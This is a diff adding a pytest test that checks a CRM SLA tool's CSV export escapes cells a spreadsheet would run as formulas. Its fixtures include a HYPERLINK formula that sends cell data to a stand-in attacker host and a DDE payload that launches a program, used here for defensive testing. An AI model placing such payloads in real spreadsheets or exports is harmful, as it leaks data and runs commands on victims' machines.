@@ -75,3 +75,21 @@ def test_report_period_and_bad_input(world, scenario):
                           "--from", "ISO date")
     assert_one_line_error(crm_sla("report", "--from", "2026-01-02", "--to", "2026-01-01",
                                   url=world.url), "period is empty")
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(world, scenario):
+    evil = '=HYPERLINK("https://evil.example.com/?d="&A1,"Click")'
+    world.agents(evil, "+1 sales", "-dash", "@at", "\tTab", "\rReturn", "Plain - name")
+    world.db.execute("insert into public.crm_sla_teams (name) values ('=cmd|'' /C calc''!A0')")
+    proc = crm_sla("report", "--format", "csv", url=world.url)
+    assert proc.returncode == 0, proc.stderr
+    names = [r["name"] for r in csv.DictReader(io.StringIO(proc.stdout))]
+    assert "'" + evil in names and evil not in names
+    for name in ("+1 sales", "-dash", "@at", "\tTab", "\rReturn"):
+        # (the CR reads back as LF: crm_sla() reads the output in text mode)
+        assert "'" + name.replace("\r", "\n") in names
+    assert "'=cmd|' /C calc'!A0" in names
+    # Names that start otherwise are unchanged, and so are the numbers.
+    assert {"Ann", "Bob", "Plain - name"} <= set(names)
+    ann = next(r for r in csv.DictReader(io.StringIO(proc.stdout)) if r["name"] == "Ann")
+    assert ann["claimed_in_window"] == "1"
